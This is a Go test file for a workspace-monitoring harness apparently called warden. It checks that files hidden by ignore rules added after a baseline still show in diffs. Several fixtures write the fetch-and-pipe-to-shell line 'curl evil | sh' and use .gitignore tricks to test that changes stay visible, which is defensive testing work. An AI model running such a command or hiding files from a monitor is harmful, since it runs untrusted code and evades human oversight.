package workspace_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"warden/harness/workspace"
)

// Ignore rules written after the baseline do not hide the files they
// ignore: each case writes rules and a file they match, and the file
// shows, added, with its content.
func TestNewIgnoreRulesDoNotHide(t *testing.T) {
	for _, c := range []struct {
		name  string
		rules func(t *testing.T, root string)
		want  []string
	}{
		{"own .gitignore", func(t *testing.T, root string) {
			write(t, root, "tools/.gitignore", "*\n")
		}, []string{"tools/.gitignore", "tools/install.sh"}},
		{"top .gitignore appended", func(t *testing.T, root string) {
			f, err := os.OpenFile(filepath.Join(root, ".gitignore"), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			f.WriteString("tools/\n")
			f.Close()
		}, []string{".gitignore", "tools/install.sh"}},
		{"negation undone", func(t *testing.T, root string) {
			// The baseline re-includes *.sh; a later rule ignores it again.
			write(t, root, "tools/.gitignore", "*.sh\n")
		}, []string{"tools/.gitignore", "tools/install.sh"}},
		{".git/info/exclude", func(t *testing.T, root string) {
			write(t, root, ".git/info/exclude", "tools/\n")
		}, []string{"tools/install.sh"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			write(t, root, ".gitignore", "*.log\n!*.sh\n")
			write(t, root, "a.txt", "a\n")
			initRepo(t, root)
			b := start(t, root, workspace.Options{})
			c.rules(t, root)
			write(t, root, "tools/install.sh", "curl evil | sh\n")
			changes := diff(t, b)
			if got := paths(changes); !slices.Equal(got, c.want) {
				t.Fatalf("paths %q, want %q", got, c.want)
			}
			sh := byPath(t, changes)["tools/install.sh"]
			if added, _ := checkParses(t, sh.Diff); sh.Kind != "add" || !slices.Equal(added, []string{"curl evil | sh"}) {
				t.Errorf("tools/install.sh: %+v", sh)
			}
		})
	}
}

// The global ignore file git reads from HOME is read once, at Start:
// writing it later (warden started in HOME, say) hides nothing, and
// neither does a global attributes file.
func TestGlobalIgnoreIsReadAtStart(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	write(t, home, ".config/git/ignore", "*.swp\n")
	root := t.TempDir()
	write(t, root, "a.go", "package a\n")
	b := start(t, root, workspace.Options{})
	write(t, home, ".config/git/ignore", "*.swp\n*.sh\n")
	write(t, home, ".config/git/attributes", "*.go -diff\n")
	write(t, root, "x.swp", "swap\n")
	write(t, root, "install.sh", "curl evil | sh\n")
	write(t, root, "a.go", "package evil\n")
	changes := diff(t, b)
	if got := paths(changes); !slices.Equal(got, []string{"a.go", "install.sh"}) {
		t.Fatalf("paths %q, want a.go and install.sh", got)
	}
	if !strings.Contains(changes[0].Diff, "+package evil") {
		t.Errorf("a.go: %+v", changes[0])
	}
}

// What the baseline's rules ignore stays out, even when it is made after
// the baseline (npm install, a new virtualenv): /diff must not copy it.
func TestBaselineIgnoreRulesStillApply(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, ".gitignore", "node_modules/\n*.o\n")
	write(t, root, "src/.gitignore", "gen/\n/local.txt\n")
	write(t, root, ".venv/.gitignore", "*\n") // what python -m venv writes
	write(t, root, ".venv/bin/python", "old\n")
	write(t, root, "src/a.c", "int a;\n")
	write(t, root, "src/a.o", "object\n")
	b := start(t, root, workspace.Options{MaxFiles: 10})
	for i := range 20 {
		write(t, root, "node_modules/pkg/f"+strings.Repeat("x", i), "js\n")
		write(t, root, ".venv/lib/m"+strings.Repeat("x", i)+".py", "py\n")
	}
	write(t, root, ".venv/bin/python", "new\n")
	write(t, root, "src/a.o", "object 2\n")
	write(t, root, "src/b.o", "object\n")
	write(t, root, "src/gen/x.c", "gen\n")
	write(t, root, "src/local.txt", "local\n")
	write(t, root, "src/deep/local.txt", "not local\n")
	write(t, root, "src/a.c", "int a = 1;\n")
	if got := paths(diff(t, b)); !slices.Equal(got, []string{"src/a.c", "src/deep/local.txt"}) {
		t.Errorf("paths %q", got)
	}
}

// A file in the baseline that a rule ignores later is still compared:
// git add -A updates what the index holds whatever the rules say.
func TestFileThatBecomesIgnoredIsStillCompared(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "tools/run.sh", "echo hi\n")
	write(t, root, "tools/gone.sh", "echo bye\n")
	b := start(t, root, workspace.Options{})
	write(t, root, ".gitignore", "tools/\n*.sh\n")
	write(t, root, "tools/run.sh", "curl evil | sh\n")
	remove(t, root, "tools/gone.sh")
	changes := diff(t, b)
	if got := paths(changes); !slices.Equal(got, []string{".gitignore", "tools/gone.sh", "tools/run.sh"}) {
		t.Fatalf("paths %q", got)
	}
	m := byPath(t, changes)
	if c := m["tools/run.sh"]; c.Kind != "update" || !strings.Contains(c.Diff, "+curl evil | sh") {
		t.Errorf("tools/run.sh: %+v", c)
	}
	if c := m["tools/gone.sh"]; c.Kind != "delete" {
		t.Errorf("tools/gone.sh: %+v", c)
	}
}

// A nested repository that a new rule ignores is looked into all the
// same.
func TestNewlyIgnoredNestedRepository(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "a.txt", "a\n")
	b := start(t, root, workspace.Options{})
	write(t, root, "vendor/.gitignore", "*\n")
	write(t, root, "vendor/lib/evil.go", "package lib\n")
	fakeRepo(t, filepath.Join(root, "vendor", "lib"))
	want := []string{"vendor/.gitignore", "vendor/lib/evil.go"}
	if got := paths(diff(t, b)); !slices.Equal(got, want) {
		t.Errorf("paths %q, want %q", got, want)
	}
}

// Files shown because the baseline did not ignore them count against the
// same bounds, and one too big to copy is compared by size.
func TestNewlyIgnoredFilesAreBounded(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "a.txt", "a\n")
	b := start(t, root, workspace.Options{MaxFiles: 5})
	write(t, root, "tools/.gitignore", "*\n")
	f, err := os.Create(filepath.Join(root, "tools", "disk.img"))
	if err != nil {
		t.Fatal(err)
	}
	f.Truncate(50<<20 + 1)
	f.Close()
	changes := diff(t, b)
	if got := paths(changes); !slices.Equal(got, []string{"tools/.gitignore", "tools/disk.img"}) {
		t.Fatalf("paths %q", got)
	}
	if c := changes[1]; c.Kind != "add" || c.Diff != "" {
		t.Errorf("tools/disk.img: %+v", c)
	}
	// Past the bounds, the new files are reported, not compared (budget.go).
	for _, n := range []string{"1", "2", "3", "4", "5"} {
		write(t, root, "tools/f"+n, n)
	}
	changes = diff(t, b)
	if got := paths(changes); !slices.Equal(got, []string{"tools/", "tools/disk.img"}) {
		t.Fatalf("paths %q", got)
	}
	if c := changes[0]; c.Kind != "add" || !strings.Contains(c.Diff, "6 new files under tools/") {
		t.Errorf("tools/: %+v", c)
	}
}

// A nested repository whose own .gitignore ignores all of it, made after
// the baseline, and one holding a file named like the entry warden seeds
// nested repositories with: their files show, and nothing else does.
func TestNewlyIgnoredNestedRepositoryEdges(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "a.txt", "a\n")
	b := start(t, root, workspace.Options{})
	write(t, root, "lib/.gitignore", "*\n")
	write(t, root, "lib/evil.go", "package lib\n")
	fakeRepo(t, filepath.Join(root, "lib"))
	write(t, root, "tools/.gitignore", "*\n")
	fakeRepo(t, filepath.Join(root, "tools", "x"))
	write(t, root, "tools/x/.warden-nested-repository-sentinel", "curl evil | sh\n")
	write(t, root, "plain/.warden-nested-repository-sentinel", "plain\n")
	fakeRepo(t, filepath.Join(root, "plain"))
	changes := diff(t, b)
	want := []string{"lib/.gitignore", "lib/evil.go", "plain/.warden-nested-repository-sentinel",
		"tools/.gitignore", "tools/x/.warden-nested-repository-sentinel"}
	if got := paths(changes); !slices.Equal(got, want) {
		t.Fatalf("paths %q, want %q", got, want)
	}
	if c := changes[4]; !strings.Contains(c.Diff, "+curl evil | sh") {
		t.Errorf("%s: %+v", c.Path, c)
	}
}

// A Diff lists the work tree with the baseline's rules alone: what they
// ignore stays out even once the rule is taken out, as the start's ignore
// rules decide what /diff compares.
func TestRuleTakenOut(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, ".gitignore", "build/\n")
	write(t, root, "build/out.o", "object\n")
	b := start(t, root, workspace.Options{})
	write(t, root, ".gitignore", "")
	write(t, root, "build/out.o", "object 2\n")
	if got := paths(diff(t, b)); !slices.Equal(got, []string{".gitignore"}) {
		t.Errorf("paths %q", got)
	}
}
